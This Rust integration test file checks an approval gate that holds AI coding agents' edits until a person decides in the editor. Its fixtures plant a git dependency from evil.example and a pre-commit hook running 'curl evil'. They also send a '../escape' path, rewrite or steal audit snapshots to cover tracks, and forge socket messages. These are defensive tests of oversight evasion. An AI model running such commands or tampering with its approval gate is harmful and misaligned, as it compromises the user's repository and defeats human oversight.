//! The editor session as the approval desk: an agent's hook, run as the real binary beside a
//! language server on the same workspace, holds a risky edit until the person decides in the
//! editor (played by the LSP test client).
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use crate::support::{TestClient, helix_caps, read, repo, root, run};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

const CARGO: &str =
    "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n";

/// Starts `autogate hook claude-code` with a `Write` of `Cargo.toml` adding `dep`.
fn spawn_hook(root: &Path, dep: &str, wait_s: &str) -> tokio::process::Child {
    spawn_hook_with(root, dep, &[("AUTOGATE_DESK_WAIT", wait_s)])
}

/// [`spawn_hook`] with `envs` set on the hook.
fn spawn_hook_with(root: &Path, dep: &str, envs: &[(&str, &str)]) -> tokio::process::Child {
    let payload = json!({
        "session_id": "s1", "cwd": root, "hook_event_name": "PreToolUse",
        "tool_name": "Write",
        "tool_input": { "file_path": root.join("Cargo.toml"), "content": format!("{CARGO}{dep} = \"1\"\n") },
    });
    spawn_claude_hook(root, &payload, envs)
}

/// Sends one line on the session socket and reads its one answer.
async fn exchange(socket: &Path, line: &Value) -> Value {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let mut stream = tokio::net::UnixStream::connect(socket).await.unwrap();
    stream
        .write_all(format!("{line}\n").as_bytes())
        .await
        .unwrap();
    let mut answer = String::new();
    BufReader::new(stream).read_line(&mut answer).await.unwrap();
    serde_json::from_str(&answer).unwrap()
}

async fn socket_ready(root: &Path) -> PathBuf {
    let socket = root.join(".git/autogate/session.sock");
    for _ in 0..200 {
        if socket.exists() {
            return socket;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("the server never listened on {}", socket.display());
}

/// The pending changes, once there is one.
async fn pending_change(client: &mut TestClient) -> Value {
    for _ in 0..400 {
        let pending = client.command("autogate.pending", json!({})).await.unwrap();
        if let Some(change) = pending["changes"].as_array().and_then(|c| c.first()) {
            return change.clone();
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("the hook's change never reached the editor");
}

async fn finish(child: tokio::process::Child) -> (i32, String, String) {
    let out = tokio::time::timeout(Duration::from_secs(30), child.wait_with_output())
        .await
        .expect("the hook did not end")
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_person_approves_a_hooks_edit_in_the_editor_and_the_agent_may_write() {
    approve_in_the_editor(&[]).await;
}

/// The same with the hook running the door itself, its ask alone sent to the session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hook_that_runs_its_own_door_asks_the_editor_too() {
    approve_in_the_editor(&[("AUTOGATE_HOOK_LOCAL", "1")]).await;
}

async fn approve_in_the_editor(envs: &[(&str, &str)]) {
    let dir = repo(&[("Cargo.toml", CARGO)]);
    let root = root(&dir);
    let mut client = TestClient::start(&root, helix_caps(), Value::Null).await;
    let socket = socket_ready(&root).await;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&socket).unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "the socket is the user's alone: {mode:o}");
    }
    let hook = spawn_hook_with(&root, "serde", envs);
    let change = pending_change(&mut client).await;
    assert_eq!(change["level"], json!("high"), "{change:#}");
    assert!(
        change["reasons"].as_array().unwrap().iter().any(|r| r
            .as_str()
            .unwrap()
            .starts_with("proposed by claude-code:s1 through its Write tool")),
        "labelled with the agent: {change:#}"
    );
    let id = change["id"].as_str().unwrap().to_owned();
    let summary = client.approve(&id).await.unwrap();
    assert_eq!(
        summary["changes"][0]["status"],
        json!("approved"),
        "{summary:#}"
    );
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(
        !stdout.contains("deny"),
        "allowed (exit 0, no deny): {stdout}"
    );
    // The agent writes once allowed: neither the server nor the hook did.
    assert_eq!(read(&root, "Cargo.toml").unwrap(), CARGO);
    let pending = client.command("autogate.pending", json!({})).await.unwrap();
    assert_eq!(pending["changes"], json!([]));
    client.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rejection_in_the_editor_denies_the_agent_and_a_timeout_withdraws_the_change() {
    let dir = repo(&[("Cargo.toml", CARGO)]);
    let root = root(&dir);
    let mut client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;

    let hook = spawn_hook(&root, "rand", "20");
    let id = pending_change(&mut client).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    client
        .command("autogate.reject", json!({ "id": id }))
        .await
        .unwrap();
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "a deny exits 2: {stdout}\n{stderr}");
    assert!(
        stdout.contains("\"deny\"") && stderr.contains("rejected"),
        "{stdout}\n{stderr}"
    );

    // Nobody answers: the hook gives up after its wait, and the editor no longer shows it.
    let hook = spawn_hook(&root, "tokio", "0.5");
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    assert!(
        stderr.contains("did not answer in the editor in time"),
        "{stderr}"
    );
    assert!(
        stderr.contains("autogate approve"),
        "the terminal way remains: {stderr}"
    );
    let mut left = Value::Null;
    for _ in 0..100 {
        left = client.command("autogate.pending", json!({})).await.unwrap();
        if left["changes"] == json!([]) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(left["changes"], json!([]), "withdrawn: {left:#}");
    assert_eq!(read(&root, "Cargo.toml").unwrap(), CARGO);
    client.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_on_the_socket_can_approve_and_garbage_is_answered() {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let dir = repo(&[("Cargo.toml", CARGO)]);
    let root = root(&dir);
    let mut client = TestClient::start(&root, helix_caps(), Value::Null).await;
    let socket = socket_ready(&root).await;
    for line in [
        "not json\n".to_owned(),
        format!("{}\n", json!({ "approve": "abc" })),
        format!(
            "{}\n",
            json!({ "agent": "x", "files": [{ "path": "../escape", "before": null, "after": "x" }], "wait_ms": 100 })
        ),
    ] {
        let mut stream = tokio::net::UnixStream::connect(&socket).await.unwrap();
        stream.write_all(line.as_bytes()).await.unwrap();
        let mut answer = String::new();
        BufReader::new(stream).read_line(&mut answer).await.unwrap();
        let answer: Value = serde_json::from_str(&answer).unwrap();
        assert!(
            matches!(answer["answer"].as_str(), Some("invalid" | "denied")),
            "{line}: {answer}"
        );
    }
    assert!(!root.parent().unwrap().join("escape").exists());
    // A hook's call the session does not take is declined (the hook then runs its own door):
    // garbage, a payload for another workspace, an event it does not serve.
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::write(elsewhere.path().join("a.rs"), "fn a() {}\n").unwrap();
    let edit = |cwd: &Path, event: &str| {
        json!({ "session_id": "s1", "cwd": cwd, "hook_event_name": event, "tool_name": "Write",
                "tool_input": { "file_path": cwd.join("a.rs"), "content": "fn b() {}\n" } })
        .to_string()
    };
    for line in [
        json!({ "hook": 5 }),
        json!({ "hook": { "agent": "claude-code", "input": "{", "cwd": root, "wait_ms": 100 } }),
        json!({ "hook": { "agent": "nobody", "input": edit(&root, "PreToolUse"), "cwd": root, "wait_ms": 100 } }),
        json!({ "hook": { "agent": "claude-code", "input": edit(elsewhere.path(), "PreToolUse"), "cwd": elsewhere.path(), "wait_ms": 100 } }),
        json!({ "hook": { "agent": "claude-code", "input": edit(&root, "PostToolUse"), "cwd": root, "wait_ms": 100 } }),
    ] {
        let answer = exchange(&socket, &line).await;
        assert_eq!(answer["answer"], json!("declined"), "{line}: {answer}");
    }
    assert_eq!(
        std::fs::read_to_string(elsewhere.path().join("a.rs")).unwrap(),
        "fn a() {}\n"
    );
    let pending = client.command("autogate.pending", json!({})).await.unwrap();
    assert_eq!(pending["changes"], json!([]));
    client.shutdown().await;
}

/// The log file a hook was told to write, or empty.
fn log_of(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

/// A low edit, a denied one, and an edit under a policy changed meanwhile, each handed by the
/// hook to the session, which runs the door with the policy as it is at each call; the check
/// after the tool (run by the hook itself) finds what the session's door allowed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_editor_session_gates_a_hooks_edits_with_the_policy_of_the_moment() {
    const LIB: &str = "pub fn one() -> i32 {\n    1\n}\n";
    let dir = repo(&[("src/lib.rs", LIB)]);
    let root = root(&dir);
    let client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;
    let logs = tempfile::tempdir().unwrap();
    let edit = |event: &str, old: &str, new: &str| {
        json!({ "session_id": "s1", "cwd": root, "hook_event_name": event, "tool_name": "Edit",
                "tool_input": { "file_path": root.join("src/lib.rs"), "old_string": old, "new_string": new } })
    };
    let log = logs.path().join("one.log");
    let log_env = log.to_str().unwrap();

    // Low: allowed by the session, which stored the checkpoint and the records.
    let hook = spawn_claude_hook(
        &root,
        &edit("PreToolUse", "    1\n", "    2\n"),
        &[("AUTOGATE_LOG_FILE", log_env)],
    );
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(
        log_of(&log).contains("the editor session gated this call"),
        "handed to the session: {}",
        log_of(&log)
    );
    let trail = std::fs::read_to_string(root.join(".git/autogate/audit.jsonl")).unwrap();
    assert!(
        trail.contains("\"decided\"") && trail.contains("claude-code:s1"),
        "{trail}"
    );
    // The agent's tool writes; the hook after it checks what the session's door allowed.
    std::fs::write(root.join("src/lib.rs"), LIB.replace("    1\n", "    2\n")).unwrap();
    let hook = spawn_claude_hook(&root, &edit("PostToolUse", "    1\n", "    2\n"), &[]);
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 0, "the allowed content is found: {stdout}\n{stderr}");

    // A secret: denied by the session, with the reason, exit 2.
    let hook = spawn_claude_hook(
        &root,
        &edit(
            "PreToolUse",
            "    2\n",
            "    let api_secret = \"3f9a0c7be21d4e58a6b9f0c3d7e2a1b48c5d6e7f90a1b2c3d4e5f6a7b8c9d0e1\";\n    2\n",
        ),
        &[],
    );
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    assert!(
        stderr.contains("critical") && stderr.contains("denied"),
        "{stderr}"
    );

    // The policy now says plan: the session's door, opened at the first call, reads it.
    std::fs::write(root.join(".autogate.toml"), "mode = \"plan\"\n").unwrap();
    let log = logs.path().join("two.log");
    let hook = spawn_claude_hook(
        &root,
        &edit("PreToolUse", "    2\n", "    3\n"),
        &[("AUTOGATE_LOG_FILE", log.to_str().unwrap())],
    );
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    assert!(stderr.contains("plan mode"), "{stderr}");
    assert!(log_of(&log).contains("the editor session gated this call"));
    assert_eq!(
        read(&root, "src/lib.rs").unwrap(),
        LIB.replace("    1\n", "    2\n")
    );
    client.shutdown().await;
}

/// Calls that overlap: parallel edits are all judged by the session (one waits while another
/// is judged), but an edit arriving while another waits for the person does not wait for them:
/// it runs its own door and is answered at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn overlapping_calls_wait_for_a_judgement_but_never_for_a_person() {
    let files: Vec<(String, String)> = (0..4)
        .map(|i| {
            (
                format!("src/m{i}.rs"),
                format!("fn m{i}() -> i32 {{\n    1\n}}\n"),
            )
        })
        .collect();
    let mut all: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    all.push(("Cargo.toml", CARGO));
    let dir = repo(&all);
    let root = root(&dir);
    let mut client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;
    let logs = tempfile::tempdir().unwrap();
    let edit = |path: &str| {
        json!({ "session_id": "s1", "cwd": root, "hook_event_name": "PreToolUse", "tool_name": "Edit",
                "tool_input": { "file_path": root.join(path), "old_string": "    1\n", "new_string": "    2\n" } })
    };
    let hooks: Vec<_> = files
        .iter()
        .enumerate()
        .map(|(i, (path, _))| {
            let log = logs.path().join(format!("parallel{i}.log"));
            let hook = spawn_claude_hook(
                &root,
                &edit(path),
                &[("AUTOGATE_LOG_FILE", log.to_str().unwrap())],
            );
            (hook, log)
        })
        .collect();
    for (hook, log) in hooks {
        let (code, stdout, stderr) = finish(hook).await;
        assert_eq!(code, 0, "{stdout}\n{stderr}");
        assert!(
            log_of(&log).contains("the editor session gated this call"),
            "each parallel call is judged by the session: {}",
            log_of(&log)
        );
    }

    // A high edit waits for the person in the editor, holding the session's door.
    let held = spawn_hook(&root, "serde", "20");
    let change = pending_change(&mut client).await;
    let log = logs.path().join("beside.log");
    let started = std::time::Instant::now();
    let beside = spawn_claude_hook(
        &root,
        &json!({ "session_id": "s1", "cwd": root, "hook_event_name": "PreToolUse", "tool_name": "Edit",
                 "tool_input": { "file_path": root.join("src/m0.rs"), "old_string": "fn m0", "new_string": "fn m0_renamed" } }),
        &[("AUTOGATE_LOG_FILE", log.to_str().unwrap())],
    );
    let (code, stdout, stderr) = finish(beside).await;
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "answered without waiting for the person: {:?}",
        started.elapsed()
    );
    assert!(
        !log_of(&log).contains("the editor session gated this call"),
        "run by its own hook while the session waits for the person: {}",
        log_of(&log)
    );
    client
        .command("autogate.reject", json!({ "id": change["id"] }))
        .await
        .unwrap();
    let (code, stdout, stderr) = finish(held).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    client.shutdown().await;
}

/// The MCP door with an editor session: the held change shows in the editor at once (the agent
/// is not blocked), the person approves it there, and `wait` writes it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_mcp_change_waits_in_the_editor_and_is_written_once_approved_there() {
    use rmcp::ServiceExt;
    use rmcp::model::CallToolRequestParams;
    use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
    let dir = repo(&[("Cargo.toml", CARGO)]);
    let root = root(&dir);
    let mut client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;
    let transport = TokioChildProcess::new(
        tokio::process::Command::new(env!("CARGO_BIN_EXE_autogate")).configure(|cmd| {
            cmd.args(["mcp", "--agent", "codex"])
                .current_dir(&root)
                .env_remove("AUTOGATE_ENV");
        }),
    )
    .unwrap();
    let agent = ().serve(transport).await.unwrap();
    let call = |tool: &'static str, args: Value| {
        let Value::Object(args) = args else {
            unreachable!()
        };
        agent.call_tool(CallToolRequestParams::new(tool).with_arguments(args))
    };
    let cargo = format!("{CARGO}serde = \"1\"\n");
    let result = call(
        "write_file",
        json!({ "path": "Cargo.toml", "content": cargo }),
    )
    .await
    .unwrap();
    let text = result.content[0].as_text().unwrap().text.clone();
    assert!(text.starts_with("waiting for the person"), "{text}");
    let door_id = text
        .split("with id ")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();

    let change = pending_change(&mut client).await;
    assert!(
        change["reasons"].to_string().contains("proposed by codex"),
        "{change:#}"
    );
    client
        .approve(change["id"].as_str().unwrap())
        .await
        .unwrap();
    let result = call("wait", json!({ "id": door_id, "timeout_s": 20 }))
        .await
        .unwrap();
    let text = result.content[0].as_text().unwrap().text.clone();
    assert!(text.starts_with("applied: Cargo.toml"), "{text}");
    assert_eq!(read(&root, "Cargo.toml").unwrap(), cargo);
    agent.cancel().await.unwrap();
    client.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn doctor_says_whether_an_editor_session_listens() {
    let dir = repo(&[("Cargo.toml", CARGO)]);
    let root = root(&dir);
    let (_, before, _) = run(&root, &["doctor"]);
    assert!(before.contains("editor session: none running"), "{before}");
    let client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;
    let doctor = root.clone();
    let (_, during, _) = tokio::task::spawn_blocking(move || run(&doctor, &["doctor"]))
        .await
        .unwrap();
    assert!(during.contains("editor session: listening at"), "{during}");
    client.shutdown().await;
}

/// Starts `autogate hook claude-code` with a `Write` of `path` (relative) holding `content`.
fn spawn_write_hook(root: &Path, path: &str, content: &str) -> tokio::process::Child {
    let payload = json!({
        "session_id": "s1", "cwd": root, "hook_event_name": "PreToolUse",
        "tool_name": "Write",
        "tool_input": { "file_path": root.join(path), "content": content },
    });
    spawn_claude_hook(root, &payload, &[])
}

/// Starts `autogate hook claude-code` with `payload` on stdin and `envs` set.
fn spawn_claude_hook(root: &Path, payload: &Value, envs: &[(&str, &str)]) -> tokio::process::Child {
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_autogate"))
        .args(["hook", "claude-code"])
        .current_dir(root)
        .env_remove("AUTOGATE_ENV")
        .env_remove("AUTOGATE_HOOK_LOCAL")
        .env("AUTOGATE_DESK_WAIT", "20")
        .envs(envs.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let payload = payload.to_string();
    tokio::spawn(async move {
        stdin.write_all(payload.as_bytes()).await.unwrap();
    });
    child
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_standing_approval_revoked_from_the_terminal_no_longer_covers_a_hooks_edit() {
    const LIB: &str = "pub fn one() -> i32 {\n    1\n}\n";
    let dir = repo(&[
        ("src/parser/a.rs", LIB),
        ("src/parser/b.rs", LIB),
        ("src/parser/c.rs", LIB),
        (
            ".autogate.toml",
            "[environments.development]\nauto_up_to = \"low\"\n",
        ),
    ]);
    let root = root(&dir);
    let mut client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;
    // S1, made in the editor from a change of src/parser/a.rs.
    let uri = client.uri("src/parser/a.rs");
    let summary = client
        .command(
            "autogate.proposeEdit",
            json!({ "edit": crate::support::edit(&uri, None, [1, 4, 1, 5], "2") }),
        )
        .await
        .unwrap();
    let c = summary["changes"][0].clone();
    assert_eq!(c["decision"], json!("ask"), "{summary:#}");
    client
        .command(
            "autogate.approveAlways",
            json!({ "id": c["id"], "hash": c["hash"] }),
        )
        .await
        .unwrap();

    // A hook's change of its scope: allowed without asking anyone.
    let hook = spawn_write_hook(
        &root,
        "src/parser/b.rs",
        "pub fn one() -> i32 {\n    3\n}\n",
    );
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(!stdout.contains("deny"), "{stdout}");
    // The door's own records say what allowed it: the standing approval, not a person.
    let trail = std::fs::read_to_string(root.join(".git/autogate/audit.jsonl")).unwrap();
    let door_records: Vec<Value> = trail
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| {
            r["files"] == json!(["src/parser/b.rs"])
                && r["change"].as_str().is_some_and(|c| c.len() == 12)
        })
        .collect();
    assert!(!door_records.is_empty(), "{trail}");
    for record in &door_records {
        assert_ne!(record["approver"], json!("person"), "{record:#}");
        assert_eq!(record["standing"], json!("S1"), "{record:#}");
        assert_eq!(record["decision"], json!("auto"), "{record:#}");
    }

    // Revoked from the terminal, with no editor proposal since: the next hook's change asks.
    let (code, _, err) = run(&root, &["approvals", "revoke", "S1"]);
    assert_eq!(code, 0, "{err}");
    let hook = spawn_write_hook(
        &root,
        "src/parser/c.rs",
        "pub fn one() -> i32 {\n    4\n}\n",
    );
    let change = pending_change(&mut client).await;
    assert_eq!(change["decision"], json!("ask"), "{change:#}");
    client
        .command("autogate.reject", json!({ "id": change["id"] }))
        .await
        .unwrap();
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    client.shutdown().await;
}

/// A Claude Code `Bash` call of `command`, before or after the tool, with its tool call id.
fn bash(root: &Path, post: bool, id: &str, command: &str) -> Value {
    json!({ "session_id": "s1", "cwd": root,
            "hook_event_name": if post { "PostToolUse" } else { "PreToolUse" },
            "tool_name": "Bash", "tool_use_id": id, "tool_input": { "command": command } })
}

/// The snapshot files a hook left under `.git/autogate/doors/shell/`.
fn snapshot_files(root: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(root.join(".git/autogate/doors/shell"))
        .map(|dir| dir.filter_map(|e| e.ok().map(|e| e.path())).collect())
        .unwrap_or_default()
}

/// What the attacker's command does: a git dependency in the manifest and a hook git runs.
fn plant(root: &Path) {
    std::fs::write(
        root.join("Cargo.toml"),
        format!("{CARGO}left-pad = {{ git = \"https://evil.example/x\" }}\n"),
    )
    .unwrap();
    std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();
}

/// Then it covers its tracks: the snapshot on disk is swapped for one taken after the damage
/// (the hook before a second command, `other_id`, takes it), so the damage looks like what
/// was there before.
async fn rewrite_snapshot(root: &Path, other_id: &str) {
    let before = snapshot_files(root);
    assert_eq!(before.len(), 1, "one snapshot on disk: {before:?}");
    let hook = spawn_claude_hook(root, &bash(root, false, other_id, "true"), &[]);
    assert_eq!(finish(hook).await.0, 0);
    let fresh = snapshot_files(root)
        .into_iter()
        .find(|p| *p != before[0])
        .unwrap();
    std::fs::rename(fresh, &before[0]).unwrap();
}

fn bracket_failures(root: &Path) -> Vec<Value> {
    std::fs::read_to_string(root.join(".git/autogate/audit.jsonl"))
        .unwrap()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|r| r["event"] == "failed" && r["rule"] == "invariant.bracketed_shell")
        .collect()
}

/// The attacker's way around bracketing that a copy on disk cannot stop: the command rewrites
/// the snapshot taken before it. While an editor session runs, the session holds the snapshot
/// in its memory, and the hook after the command checks against that copy: the damage is put
/// back, and the rewrite is recorded, critical. A second keep under the same tool call id is
/// refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_snapshot_rewritten_on_disk_is_not_believed_while_an_editor_session_holds_it() {
    let dir = repo(&[("Cargo.toml", CARGO), ("src/lib.rs", "pub fn one() {}\n")]);
    let root = root(&dir);
    let client = TestClient::start(&root, helix_caps(), Value::Null).await;
    socket_ready(&root).await;
    let command = "sed -i s/x/y/ Cargo.toml";
    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_9", command), &[]);
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 0, "{stdout}\n{stderr}");

    plant(&root);
    // Running the hook before the tool again under the same id is refused, and leaves the
    // copy on disk as it was.
    let on_disk = std::fs::read(&snapshot_files(&root)[0]).unwrap();
    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_9", command), &[]);
    let (code, _, stderr) = finish(hook).await;
    assert_eq!(code, 2, "a second keep under one id: {stderr}");
    assert!(stderr.contains("would not hold"), "{stderr}");
    assert_eq!(std::fs::read(&snapshot_files(&root)[0]).unwrap(), on_disk);
    rewrite_snapshot(&root, "toolu_10").await;

    let hook = spawn_claude_hook(&root, &bash(&root, true, "toolu_9", command), &[]);
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    assert!(stderr.contains("changed on disk while it ran"), "{stderr}");
    assert_eq!(
        read(&root, "Cargo.toml").as_deref(),
        Some(CARGO),
        "put back"
    );
    assert!(
        !root.join(".git/hooks/pre-commit").exists(),
        "the planted hook is removed"
    );
    let failures = bracket_failures(&root);
    assert!(
        failures.iter().any(|r| r["level"] == "critical"
            && r["reasons"][0]
                .as_str()
                .unwrap()
                .contains("changed on disk")),
        "{failures:?}"
    );
    client.shutdown().await;

    // The same attack with no session: the rewritten copy on disk is all there is, and it is
    // believed (the limit `docs/security.md` states). This is what the session's copy closes.
    let dir = repo(&[("Cargo.toml", CARGO), ("src/lib.rs", "pub fn one() {}\n")]);
    let root = self::root(&dir);
    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_11", command), &[]);
    assert_eq!(finish(hook).await.0, 0);
    plant(&root);
    rewrite_snapshot(&root, "toolu_12").await;
    let hook = spawn_claude_hook(&root, &bash(&root, true, "toolu_11", command), &[]);
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(read(&root, "Cargo.toml").unwrap().contains("evil.example"));
}

/// Another process on the socket takes the session's copy of the snapshot (to make the hook
/// after the command fall back to the copy on disk, which it rewrote): the hook after the
/// command finds the key taken, stops the agent and records it, critical. Keeping a forged
/// snapshot under the key instead is refused, whatever the forger says of the key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_snapshot_taken_from_the_session_by_another_process_stops_the_agent() {
    let dir = repo(&[("Cargo.toml", CARGO)]);
    let root = root(&dir);
    let client = TestClient::start(&root, helix_caps(), Value::Null).await;
    let socket = socket_ready(&root).await;
    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_7", "make"), &[]);
    assert_eq!(finish(hook).await.0, 0);

    let send = |line: Value| {
        let socket = socket.clone();
        async move { exchange(&socket, &line).await }
    };
    let key = "claude-code\u{0}toolu_7";
    let forged = json!({ "snapshot": { "op": "keep", "key": key, "snapshot": { "git": false }, "once": false } });
    assert_eq!(send(forged.clone()).await["answer"], "refused");
    let taken = send(json!({ "snapshot": { "op": "take", "key": key } })).await;
    assert_eq!(taken["answer"], "taken", "{taken}");
    assert_eq!(taken["snapshot"]["git"], true);
    assert_eq!(send(forged).await["answer"], "refused");
    let garbage = send(json!({ "snapshot": { "op": "steal" } })).await;
    assert_eq!(garbage["answer"], "refused", "{garbage}");

    std::fs::write(root.join("Cargo.toml"), format!("{CARGO}evil = \"*\"\n")).unwrap();
    let hook = spawn_claude_hook(&root, &bash(&root, true, "toolu_7", "make"), &[]);
    let (code, stdout, stderr) = finish(hook).await;
    assert_eq!(code, 2, "{stdout}\n{stderr}");
    assert!(stderr.contains("taken by another process"), "{stderr}");
    assert!(
        bracket_failures(&root)
            .iter()
            .any(|r| r["level"] == "critical"),
        "recorded"
    );
    client.shutdown().await;
}
